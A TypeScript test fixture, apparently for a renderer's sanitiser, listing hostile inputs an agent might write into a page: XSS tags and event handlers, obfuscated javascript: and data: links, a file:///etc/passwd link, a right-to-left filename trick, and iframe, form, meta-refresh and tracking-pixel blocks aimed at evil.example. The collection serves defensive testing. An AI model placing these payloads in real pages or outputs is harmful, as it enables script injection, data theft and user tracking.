// What an agent may write to make a page do something: tags, attributes, links, Markdown, and text that hides its order.

/** Set by any of these that runs. */
export const TRAP = 'window.trapped=1';

/** Each fits into a title, a name and a summary. */
export const HOSTILE_LINES = [
  `<script>${TRAP}</script>`,
  `<img src=x onerror=${TRAP}>`,
  `"><svg onload=${TRAP}>`,
  `'onmouseover='${TRAP}'`,
  `</title><script>${TRAP}</script>`,
  `&lt;script&gt;${TRAP}`,
  `<!-- --!><b>bold`,
  '\u202Eexe.yadot\u2066',
] as const;

/** Links that must stay text. */
export const HOSTILE_LINKS = [
  `[link](javascript:${TRAP})`,
  `[link](JaVaScRiPt:${TRAP})`,
  `[link](java&#115;cript:${TRAP})`,
  `[link](java&Tab;script:${TRAP})`,
  `[link](&#1;javascript:${TRAP})`,
  '[link](vbscript:msgbox)',
  '[link](data:text/html;base64,PHNjcmlwdD4=)',
  '[link](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[link](data:image/png;base64,AAAA)',
  '[link](file:///etc/passwd)',
  '[link](blob:null/1)',
  `<javascript:${TRAP}>`,
  `[link][ref]\n\n[ref]: javascript:${TRAP}`,
] as const;

/** Blocks that ask for something of somebody else, or for a style or a script of the author's. */
export const HOSTILE_BLOCKS = [
  `<iframe src="https://evil.example"></iframe>`,
  `<form action="https://evil.example"><input name=key><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<style>body{display:none}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<object data="https://evil.example"></object><embed src="https://evil.example">`,
  '![pixel](https://evil.example/pixel.png)',
  '[![pixel](https://evil.example/pixel.png)](https://evil.example)',
  '| a | b |\n|:-:|--:|\n| 1 | 2 |',
  '```"><script>\ncode\n```',
  `<details open ontoggle=${TRAP}>x</details>`,
] as const;

/** All of it in one text. */
export const HOSTILE_TEXT = [...HOSTILE_LINES, ...HOSTILE_LINKS, ...HOSTILE_BLOCKS].join('\n\n');
